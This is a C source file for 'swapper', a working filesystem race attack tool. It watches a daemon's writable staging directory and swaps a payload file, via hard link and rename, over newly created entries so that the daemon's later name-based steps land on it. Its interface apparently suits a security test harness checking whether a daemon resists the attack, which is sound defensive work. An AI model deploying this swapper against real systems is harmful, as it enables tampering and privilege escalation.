/* The staging-area attack of a user who can write a directory the daemon
 * stages copies in: watches DIR with inotify and, each time an entry
 * whose name starts with PREFIX appears there, puts the user's own file
 * PAYLOAD under that name (a fresh hard link of it renamed over the
 * name), so that the daemon's later steps by name would land on it.
 *
 *   swapper DIR PREFIX PAYLOAD SECONDS
 *
 * Runs for SECONDS, or until DIR/stop exists or SIGTERM; prints "swapped N" (the
 * renames that took) or "EACCES" and exits 0 when DIR cannot be watched
 * at all. Exit 1 on a usage or setup error. Run as the attacking user. */
#include <errno.h>
#include <limits.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <time.h>
#include <unistd.h>

static unsigned long swapped;
static volatile sig_atomic_t term;

static void on_term(int sig)
{
	term = sig;
}

/* Puts a new link of payload at dir/name (a link, then a rename over it:
 * the name never stops existing, as a careful attacker would do it). */
static void swap_in(const char *dir, const char *name, const char *payload)
{
	char tmp[PATH_MAX], dst[PATH_MAX];

	snprintf(tmp, sizeof(tmp), "%s/.swap.%d.%lu", dir, (int)getpid(), swapped);
	snprintf(dst, sizeof(dst), "%s/%s", dir, name);
	if (link(payload, tmp) < 0)
		return;
	if (rename(tmp, dst) == 0)
		swapped++;
	else
		unlink(tmp);
}

static int stopped(const char *dir, time_t end)
{
	char p[PATH_MAX];

	snprintf(p, sizeof(p), "%s/stop", dir);
	return term || time(NULL) >= end || access(p, F_OK) == 0;
}

static void drain(int fd, const char *dir, const char *prefix, const char *payload)
{
	char buf[16384] __attribute__((aligned(8)));
	ssize_t n = read(fd, buf, sizeof(buf));

	for (char *p = buf; n > 0 && p < buf + n;) {
		struct inotify_event *ev = (struct inotify_event *)p;

		if (ev->len && !strncmp(ev->name, prefix, strlen(prefix)))
			swap_in(dir, ev->name, payload);
		p += sizeof(*ev) + ev->len;
	}
}

int main(int argc, char **argv)
{
	struct pollfd pfd;
	time_t end;
	int fd;

	if (argc != 5) {
		fprintf(stderr, "usage: swapper DIR PREFIX PAYLOAD SECONDS\n");
		return 1;
	}
	end = time(NULL) + atoi(argv[4]);
	signal(SIGTERM, on_term);
	fd = inotify_init1(IN_NONBLOCK | IN_CLOEXEC);
	if (fd < 0) {
		perror("inotify_init1");
		return 1;
	}
	if (inotify_add_watch(fd, argv[1], IN_CREATE | IN_MOVED_TO) < 0) {
		if (errno == EACCES) {
			puts("EACCES");
			return 0;
		}
		perror(argv[1]);
		return 1;
	}
	printf("watching\n");
	fflush(stdout);
	pfd.fd = fd;
	pfd.events = POLLIN;
	while (!stopped(argv[1], end)) {
		if (poll(&pfd, 1, 100) > 0)
			drain(fd, argv[1], argv[2], argv[3]);
	}
	printf("swapped %lu\n", swapped);
	return 0;
}
